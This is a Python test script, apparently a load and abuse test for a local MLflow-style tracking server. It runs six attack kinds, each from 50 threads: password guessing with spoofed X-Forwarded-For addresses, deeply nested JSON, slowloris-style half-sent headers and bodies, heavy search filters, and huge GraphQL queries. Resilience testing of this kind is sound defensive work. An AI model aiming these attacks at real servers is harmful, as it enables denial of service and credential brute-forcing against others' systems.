"""Attacks on a server for a team, each from 50 connections: python -m tests.attacks KIND PORT LOGIN."""

import base64
import json
import resource
import socket
import sys
import threading
import time
from collections.abc import Callable
from contextlib import suppress
from itertools import count

CONNECTIONS = 50
HALF_SENT = 1_100

API = "/api/2.0/mlflow"
DEEP = b"[" + b",".join([b"[]"] * 5_000_000) + b"]"
TERMS = " and ".join(f"params.p{number} = '{number}'" for number in range(300))
FEWER_TERMS = " and ".join(f"params.p{number} = '{number}'" for number in range(29))

Attack = Callable[[int, str, int], None]
"""By the port, a reader's `Authorization`, and the number of the connection."""


def sent(port: int, head: str, body: bytes = b"", *, length: int | None = None) -> bytes:
    """Send one request on a connection of its own and return what comes back, until the server ends it."""
    with socket.create_connection(("127.0.0.1", port), 120) as connection:
        size = len(body) if length is None else length
        connection.sendall(f"{head}\r\nHost: 127.0.0.1:{port}\r\nContent-Length: {size}\r\n\r\n".encode())
        with suppress(BrokenPipeError, ConnectionResetError):
            connection.sendall(body)
        answer = connection.recv(65536)
        while length is not None and (more := connection.recv(65536)):  # silence, until it is ended
            answer += more
        return answer


def basic(name: str, password: str) -> str:
    return "Basic " + base64.b64encode(f"{name}:{password}".encode()).decode()


def guess(port: int, _: str, number: int) -> None:
    names = ("admin", "ada", "nobody")
    for attempt in count():
        login = basic(names[attempt % 3], f"{number} {attempt}")
        address = f"198.51.100.{attempt % 250}"
        head = f"GET {API}-artifacts/artifacts/0/x HTTP/1.1\r\nAuthorization: {login}\r\nX-Forwarded-For: {address}"
        sent(port, head)


def parse(port: int, _: str, __: int) -> None:
    while True:
        sent(port, f"POST {API}/runs/create HTTP/1.1\r\nContent-Type: application/json", DEEP)


def hold_bodies(port: int, reader: str, number: int) -> None:
    login = f"\r\nAuthorization: {reader}" if number % 2 else ""
    while True:
        head = f"POST {API}/runs/search HTTP/1.1\r\nContent-Type: application/json{login}"
        sent(port, head, b"[" * (3 << 20), length=4 << 20)


def hold_headers(port: int, _: str, number: int) -> None:
    mine = range(number, HALF_SENT, CONNECTIONS)
    while True:
        held = [socket.create_connection(("127.0.0.1", port), 120) for _ in mine]
        for each in held:
            with suppress(OSError):
                each.sendall(b"GET / HTTP/1.1\r\nHost: ")
        for each in held:
            with each, suppress(OSError):
                each.recv(1)


def search(port: int, reader: str, number: int) -> None:
    terms = TERMS if number % 2 else FEWER_TERMS
    body = json.dumps({"experiment_ids": ["0"], "filter": terms}).encode()
    head = f"POST {API}/runs/search HTTP/1.1\r\nContent-Type: application/json\r\nAuthorization: {reader}"
    while True:
        sent(port, head, body)


def ask_much(port: int, reader: str, number: int) -> None:
    size = 8 << 20 if number % 2 else 19_000
    body = json.dumps({"query": "{" + "a " * (size // 2) + "}"}).encode()
    head = f"POST /graphql HTTP/1.1\r\nContent-Type: application/json\r\nAuthorization: {reader}"
    while True:
        sent(port, head, body)


ATTACKS: dict[str, Attack] = {
    "wrong passwords": guess,
    "JSON before the login": parse,
    "unfinished bodies": hold_bodies,
    "half-sent headers": hold_headers,
    "heavy filters": search,
    "long questions in GraphQL": ask_much,
}


def repeat(attack: Attack, port: int, reader: str, number: int) -> None:
    while True:
        with suppress(OSError):
            attack(port, reader, number)
        time.sleep(0.01)  # a connection that was refused


def main() -> None:
    kind, port, reader = sys.argv[1:]
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    for number in range(CONNECTIONS):
        threading.Thread(target=repeat, args=(ATTACKS[kind], int(port), reader, number), daemon=True).start()
    print("begun", flush=True)
    sys.stdin.read()  # until who has started it goes


if __name__ == "__main__":
    main()
